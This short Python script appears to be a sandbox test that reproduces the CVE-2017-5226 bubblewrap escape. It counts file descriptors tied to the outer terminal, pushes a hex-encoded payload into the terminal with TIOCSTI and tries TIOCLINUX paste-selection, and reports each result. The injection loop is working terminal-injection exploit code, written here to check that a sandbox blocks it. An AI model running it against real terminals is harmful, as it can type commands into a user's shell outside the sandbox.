# Run INSIDE a sandbox by tui_pty.sh: what CVE-2017-5226 (bubblewrap) did.
#   python3 tiocsti.py PAYLOAD_HEX OUTER_DEV OUTER_RDEV
# (hex, so that the payload's text on the screen can only be its echo)
# Counts the fds among 0..255 that are the learner's terminal (same st_dev and
# st_rdev as the tmux pane's tty, passed in by the test), then pushes PAYLOAD
# into the first terminal among fds 0/1/2 with TIOCSTI and tries TIOCLINUX
# (paste selection). Prints one line per finding; never fails on a refusal.
import errno, fcntl, os, sys, termios

payload = bytes.fromhex(sys.argv[1])
outer = (int(sys.argv[2]), int(sys.argv[3]))
held = 0
for fd in range(256):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if (st.st_dev, st.st_rdev) == outer:
        held += 1
print("learner-terminal-fds=%d" % held)
tty = next((fd for fd in (0, 1, 2) if os.isatty(fd)), None)
if tty is None:
    print("tiocsti=no-tty")
else:
    try:
        for c in payload:
            fcntl.ioctl(tty, termios.TIOCSTI, bytes([c]))
        print("tiocsti=done-on-fd-%d" % tty)
    except OSError as e:
        print("tiocsti=%s" % errno.errorcode.get(e.errno, e.errno))
    try:
        fcntl.ioctl(tty, 0x541C, bytes([3]))   # TIOCLINUX, TIOCL_PASTESEL
        print("tioclinux=done")
    except OSError as e:
        print("tioclinux=%s" % errno.errorcode.get(e.errno, e.errno))
sys.stdout.flush()
